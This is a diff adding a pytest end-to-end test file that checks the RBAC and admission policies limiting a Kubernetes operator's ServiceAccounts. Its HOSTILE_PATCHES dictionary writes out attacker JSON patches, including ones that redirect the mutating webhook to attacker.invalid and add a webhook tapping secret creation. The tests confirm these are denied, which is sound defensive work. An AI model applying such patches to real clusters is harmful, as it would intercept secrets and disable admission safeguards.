@@ -1,0 +1,387 @@
+"""What each of the chart's ServiceAccounts may do, by impersonating it on a real apiserver.
+
+A control plane of its own with the default Helm install (self-managed webhook certificate). Each
+request is the real one (`kubectl --as=system:serviceaccount:...`), so RBAC and the admission policies
+(docs/security.md#admission-policies) decide it exactly as they would for the server's own token; no
+server runs, which leaves the objects under test as the install wrote them.
+"""
+
+from __future__ import annotations
+
+import base64
+import functools
+import json
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from chart import Release, packaged_chart
+from controlplane import ControlPlane, default_bin_dir
+from trainop_stack import job, replica
+
+from trainop import kubeclient
+from trainop.install import policies
+
+pytestmark = pytest.mark.e2e
+
+RELEASE, NAMESPACE = "trainop", "trainop-system"
+WEBHOOKS = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-webhooks"
+HOOKS = f"system:serviceaccount:{NAMESPACE}:{RELEASE}-hooks"
+SECRET = f"{RELEASE}-webhook-cert"
+TENANT = "tenant"
+ONLY_CA_BUNDLE = policies.WEBHOOK_CONFIGURATION_VALIDATIONS[2]["message"]
+ONLY_OWN_CONFIGURATIONS = policies.WEBHOOK_CONFIGURATION_VALIDATIONS[0]["message"]
+ONLY_JOB_EVENTS = policies.HOOKS_EVENT_VALIDATIONS[0]["message"]
+ONLY_AGGREGATE = policies.HOOKS_EVENT_VALIDATIONS[1]["message"]
+ONLY_FINISHED_WITH_TTL = policies.HOOKS_JOB_DELETION_VALIDATIONS[0]["message"]
+# What the issue's attacker patched into the mutating configuration, one change at a time.
+HOSTILE_PATCHES = {
+    "failurePolicy Ignore": [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}],
+    "a rule for secrets and pods": [
+        {
+            "op": "add",
+            "path": "/webhooks/0/rules/-",
+            "value": {
+                "apiGroups": [""],
+                "apiVersions": ["v1"],
+                "operations": ["CREATE", "UPDATE"],
+                "resources": ["secrets", "pods"],
+            },
+        }
+    ],
+    "namespaceSelector {}": [{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}],
+    "another service": [
+        {"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.invalid/mutate"}
+    ],
+    "a second webhook": [
+        {
+            "op": "add",
+            "path": "/webhooks/-",
+            "value": {
+                "name": "tap.example.com",
+                "admissionReviewVersions": ["v1"],
+                "sideEffects": "None",
+                "clientConfig": {"url": "https://attacker.invalid/tap"},
+                "rules": [
+                    {
+                        "apiGroups": [""],
+                        "apiVersions": ["v1"],
+                        "operations": ["CREATE"],
+                        "resources": ["secrets"],
+                    }
+                ],
+            },
+        }
+    ],
+}
+
+
+@pytest.fixture(scope="module")
+def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ControlPlane]:
+    cp = ControlPlane(default_bin_dir(), tmp_path_factory.mktemp("rbac-cp"))
+    try:
+        cp.start()
+        cp.create_namespace(TENANT)
+        yield cp
+    finally:
+        cp.stop()
+
+
+@pytest.fixture(scope="module")
+def release(cluster: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Release:
+    """The default install, once the apiserver enforces its admission policies (a moment after helm)."""
+    rel = Release(cluster, packaged_chart(tmp_path_factory.mktemp("chart")), RELEASE, NAMESPACE)
+    # No webhook server runs: jobs of the tenant namespace go in unadmitted, as the tests need them.
+    rel.install([f"webhooks.excludedNamespaces={{{TENANT}}}"])
+    patch = json.dumps(HOSTILE_PATCHES["failurePolicy Ignore"])
+    probes = {
+        ONLY_CA_BUNDLE: (
+            WEBHOOKS,
+            "patch",
+            "mutatingwebhookconfiguration",
+            f"{RELEASE}-mutate",
+            "--type=json",
+            "-p",
+            patch,
+        ),
+        "webhook certificate Secret": ("admin", "create", "secret", "generic", SECRET, "-n", NAMESPACE),
+        ONLY_JOB_EVENTS: (HOOKS, "create", "-f", "-"),
+    }
+    pod_event = event("probe", {"apiVersion": "v1", "kind": "Pod", "name": "p"}, "tfjob-controller")
+
+    def enforced(message: str, user: str, *args: str) -> bool:
+        who = () if user == "admin" else (f"--as={user}",)
+        body = json.dumps(pod_event) if "-f" in args else None
+        res = rel.kubectl(*who, *args, "--dry-run=server", input=body, check=False)
+        return res.returncode != 0 and message in res.stderr
+
+    for message, (user, *args) in probes.items():
+        check = functools.partial(enforced, message, user, *args)
+        cluster.wait_until(f"policy in force: {message}", check, timeout=30)
+    return rel
+
+
+@pytest.fixture(scope="module")
+def metacontroller(release: Release) -> str:
+    account = release.service_account("statefulset", release.metacontroller_statefulset())
+    return f"system:serviceaccount:{NAMESPACE}:{account}"
+
+
+@pytest.fixture(scope="module")
+def hooks_client(release: Release) -> kubeclient.KubeClient:
+    """The hooks' own token: `kubectl patch` would GET first, which the hooks may not (they patch blind)."""
+    return kubeclient.from_kubeconfig(release.token_kubeconfig(f"{RELEASE}-hooks"))
+
+
+def patch_event(client: kubeclient.KubeClient, name: str, patch: dict[str, Any]) -> tuple[bool, str]:
+    path = f"/api/v1/namespaces/{TENANT}/events/{name}"
+    try:
+        client.request("PATCH", path, patch, content_type="application/merge-patch+json")
+    except kubeclient.ApiError as exc:
+        return False, str(exc)
+    return True, ""
+
+
+def as_user(rel: Release, user: str, *args: str, body: Any = None) -> tuple[bool, str]:
+    """kubectl as `user`: (succeeded, its output)."""
+    stdin = None if body is None else json.dumps(body)
+    res = rel.kubectl(f"--as={user}", *args, input=stdin, check=False)
+    return res.returncode == 0, res.stdout + res.stderr
+
+
+def can_i(rel: Release, user: str, *args: str) -> bool:
+    res = rel.kubectl("auth", "can-i", *args, f"--as={user}", check=False)
+    return res.stdout.strip() == "yes"
+
+
+def event(name: str, involved: dict[str, str], component: str) -> dict[str, Any]:
+    return {
+        "apiVersion": "v1",
+        "kind": "Event",
+        "metadata": {"name": name, "namespace": TENANT},
+        "involvedObject": {"namespace": TENANT, **involved},
+        "reason": "Created",
+        "message": "Created pod: x-worker-0",
+        "type": "Normal",
+        "source": {"component": component},
+    }
+
+
+TFJOB = {"apiVersion": "kubeflow.org/v1", "kind": "TFJob", "name": "x", "uid": "0b7c"}
+
+
+# ---------------------------------------------------------------------- the webhook ServiceAccount
+@pytest.mark.parametrize("change", sorted(HOSTILE_PATCHES))
+def test_the_webhook_account_cannot_rewrite_its_mutating_configuration(release: Release, change: str) -> None:
+    patch = json.dumps(HOSTILE_PATCHES[change])
+    before = release.cp.get_json(f"mutatingwebhookconfiguration/{RELEASE}-mutate")["webhooks"]
+    ok, out = as_user(
+        release,
+        WEBHOOKS,
+        "patch",
+        "mutatingwebhookconfiguration",
+        f"{RELEASE}-mutate",
+        "--type=json",
+        "-p",
+        patch,
+    )
+    assert not ok and ONLY_CA_BUNDLE in out, out
+    assert release.cp.get_json(f"mutatingwebhookconfiguration/{RELEASE}-mutate")["webhooks"] == before
+
+
+def test_the_webhook_account_may_write_ca_bundle_of_both_configurations(release: Release) -> None:
+    bundle = base64.b64encode((release.cp.pki / "ca.crt").read_bytes()).decode()
+    patch = json.dumps([{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle}])
+    for kind, name in (
+        ("mutatingwebhookconfiguration", f"{RELEASE}-mutate"),
+        ("validatingwebhookconfiguration", f"{RELEASE}-validate"),
+    ):
+        ok, out = as_user(release, WEBHOOKS, "patch", kind, name, "--type=json", "-p", patch)
+        assert ok, out
+        assert release.cp.get_json(f"{kind}/{name}")["webhooks"][0]["clientConfig"]["caBundle"] == bundle
+
+
+def test_the_webhook_account_cannot_create_or_delete_a_webhook_configuration(release: Release) -> None:
+    assert not can_i(release, WEBHOOKS, "create", "mutatingwebhookconfigurations")
+    assert not can_i(release, WEBHOOKS, "delete", f"validatingwebhookconfiguration/{RELEASE}-validate")
+    ok, out = as_user(
+        release,
+        WEBHOOKS,
+        "delete",
+        "validatingwebhookconfiguration",
+        f"{RELEASE}-validate",
+        "--dry-run=server",
+    )
+    assert not ok and "forbidden" in out.lower(), out
+
+
+def test_a_cluster_admin_cannot_plant_the_webhook_certificate_secret(release: Release) -> None:
+    res = release.kubectl(
+        "create", "secret", "generic", SECRET, "-n", NAMESPACE, "--from-literal=ca.crt=x", check=False
+    )
+    assert res.returncode != 0, res.stdout
+    assert f"may create or update the webhook certificate Secret {SECRET}" in res.stderr, res.stderr
+    assert "delete the Secret to have the webhook server issue a new one" in res.stderr
+
+
+def test_only_the_webhook_account_writes_the_certificate_secret_and_anyone_allowed_may_delete_it(
+    release: Release,
+) -> None:
+    ok, out = as_user(
+        release, WEBHOOKS, "create", "secret", "generic", SECRET, "-n", NAMESPACE, "--from-literal=x=y"
+    )
+    assert ok, out
+    res = release.kubectl("label", "secret", SECRET, "-n", NAMESPACE, "planted=true", check=False)
+    assert res.returncode != 0 and "may create or update the webhook certificate Secret" in res.stderr
+    stored = release.cp.get_json(f"secret/{SECRET}", "-n", NAMESPACE)
+    stored["metadata"].setdefault("labels", {})["renewed"] = "true"
+    ok, out = as_user(release, WEBHOOKS, "replace", "-f", "-", body=stored)
+    assert ok, out
+    release.kubectl("delete", "secret", SECRET, "-n", NAMESPACE)
+
+
+def test_the_secret_policy_holds_only_the_certificate_secret(release: Release) -> None:
+    res = release.kubectl("create", "secret", "generic", "unrelated", "-n", NAMESPACE, "--from-literal=x=y")
+    assert res.returncode == 0
+
+
+def test_the_webhook_account_reads_no_other_secret(release: Release) -> None:
+    assert can_i(release, WEBHOOKS, "get", f"secret/{SECRET}", "-n", NAMESPACE)
+    assert not can_i(release, WEBHOOKS, "get", "secret/unrelated", "-n", NAMESPACE)
+    assert not can_i(release, WEBHOOKS, "list", "secrets", "-n", NAMESPACE)
+
+
+# ---------------------------------------------------------------------- the hooks ServiceAccount
+def test_the_hooks_may_record_an_event_on_a_job_as_its_controller(release: Release) -> None:
+    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("ours", TFJOB, "tfjob-controller"))
+    assert ok, out
+
+
+def test_the_hooks_cannot_create_an_event_about_a_pod(release: Release) -> None:
+    pod = {"apiVersion": "v1", "kind": "Pod", "name": "x-worker-0", "uid": "77aa"}
+    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("about-pod", pod, "tfjob-controller"))
+    assert not ok and ONLY_JOB_EVENTS in out, out
+
+
+def test_the_hooks_cannot_write_an_event_as_another_controller(release: Release) -> None:
+    ok, out = as_user(release, HOOKS, "create", "-f", "-", body=event("as-kueue", TFJOB, "kueue-admission"))
+    assert not ok and ONLY_JOB_EVENTS in out, out
+
+
+def test_the_hooks_cannot_patch_an_event_of_another_operator(
+    release: Release, hooks_client: kubeclient.KubeClient
+) -> None:
+    release.kubectl("create", "-f", "-", input=json.dumps(event("theirs", TFJOB, "kueue-admission")))
+    for patch in ({"count": 7}, {"message": "rewritten", "source": {"component": "tfjob-controller"}}):
+        ok, out = patch_event(hooks_client, "theirs", patch)
+        assert not ok and "denied request" in out, (patch, out)
+    stored = release.cp.get_json("event/theirs", "-n", TENANT)
+    assert (stored.get("count"), stored["message"]) == (None, "Created pod: x-worker-0")
+
+
+def test_the_hooks_may_aggregate_their_own_event_but_not_reword_it(
+    release: Release, hooks_client: kubeclient.KubeClient
+) -> None:
+    release.kubectl("create", "-f", "-", input=json.dumps(event("repeated", TFJOB, "tfjob-controller")))
+    ok, out = patch_event(
+        hooks_client, "repeated", {"count": 2, "metadata": {"annotations": {"trainop/occurrence": "2"}}}
+    )
+    assert ok, out
+    ok, out = patch_event(hooks_client, "repeated", {"message": "attacker's text"})
+    assert not ok and ONLY_AGGREGATE in out, out
+    assert release.cp.get_json("event/repeated", "-n", TENANT)["count"] == 2
+
+
+def test_the_hooks_read_jobs_one_by_one_and_list_nothing(release: Release) -> None:
+    assert can_i(release, HOOKS, "get", "tfjobs", "-n", TENANT)
+    assert not can_i(release, HOOKS, "list", "tfjobs", "-A")
+    assert not can_i(release, HOOKS, "list", "events", "-A")
+    assert not can_i(release, HOOKS, "get", "secrets", "-n", NAMESPACE)
+    assert not can_i(release, HOOKS, "create", "events.events.k8s.io", "-n", TENANT)
+
+
+def tfjob(rel: Release, name: str, finished: bool, ttl: bool) -> None:
+    """A TFJob in the tenant namespace, Succeeded (status written as its controller would) or running."""
+    run_policy = {"ttlSecondsAfterFinished": 60} if ttl else None
+    body = job("TFJob", name, {"Worker": replica("TFJob")}, run_policy=run_policy)
+    rel.kubectl("create", "-n", TENANT, "-f", "-", input=json.dumps(body))
+    if finished:
+        done = {"type": "Succeeded", "status": "True", "reason": "TFJobSucceeded", "message": "done"}
+        status = json.dumps({"status": {"conditions": [done], "replicaStatuses": {}}})
+        rel.kubectl(
+            "patch", "tfjob", name, "-n", TENANT, "--subresource=status", "--type=merge", "-p", status
+        )
+
+
+def hooks_delete(rel: Release, name: str) -> tuple[bool, str]:
+    return as_user(rel, HOOKS, "delete", "tfjob", name, "-n", TENANT, "--dry-run=server", "--wait=false")
+
+
+def test_the_hooks_may_delete_a_finished_job_past_its_ttl(release: Release) -> None:
+    tfjob(release, "finished-ttl", finished=True, ttl=True)
+    ok, out = hooks_delete(release, "finished-ttl")
+    assert ok, out
+
+
+def test_the_hooks_cannot_delete_a_running_job(release: Release) -> None:
+    tfjob(release, "running-ttl", finished=False, ttl=True)
+    ok, out = hooks_delete(release, "running-ttl")
+    assert not ok and ONLY_FINISHED_WITH_TTL in out, out
+
+
+def test_the_hooks_cannot_delete_a_finished_job_without_a_ttl(release: Release) -> None:
+    tfjob(release, "finished-kept", finished=True, ttl=False)
+    ok, out = hooks_delete(release, "finished-kept")
+    assert not ok and ONLY_FINISHED_WITH_TTL in out, out
+
+
+# ---------------------------------------------------------------------- Metacontroller
+def test_metacontroller_cannot_read_secrets_or_namespaces(release: Release, metacontroller: str) -> None:
+    for args in (("list", "secrets", "-A"), ("get", "secrets", "-n", "kube-system"), ("list", "namespaces")):
+        assert not can_i(release, metacontroller, *args), args
+    ok, out = as_user(release, metacontroller, "get", "secrets", "-n", "kube-system")
+    assert not ok and "forbidden" in out.lower(), out
+
+
+def test_metacontroller_cannot_grant_secrets_in_a_role(release: Release, metacontroller: str) -> None:
+    ok, out = as_user(
+        release,
+        metacontroller,
+        "create",
+        "role",
+        "tap",
+        "-n",
+        "kube-system",
+        "--verb=list",
+        "--resource=secrets",
+    )
+    assert not ok and "attempting to grant RBAC permissions not currently held" in out, out
+
+
+def test_metacontroller_still_creates_the_children_and_roles_of_jobs(
+    release: Release, metacontroller: str
+) -> None:
+    for resource in ("pods", "services", "configmaps", "serviceaccounts", "roles", "rolebindings"):
+        assert can_i(release, metacontroller, "create", resource, "-n", TENANT), resource
+    ok, out = as_user(
+        release,
+        metacontroller,
+        "create",
+        "role",
+        "launcher",
+        "-n",
+        TENANT,
+        "--verb=create",
+        "--resource=pods/exec",
+    )
+    assert ok, out
+
+
+def test_the_release_installs_its_four_policies(release: Release) -> None:
+    names = release.kubectl(
+        "get", "validatingadmissionpolicies", "-l", f"app.kubernetes.io/instance={RELEASE}", "-o", "name"
+    ).stdout.split()
+    assert sorted(names) == sorted(
+        f"validatingadmissionpolicy.admissionregistration.k8s.io/{RELEASE}-{n}"
+        for n in ("webhooks-ca-bundle-only", "webhook-cert-writer", "hooks-events", "hooks-job-deletion")
+    )
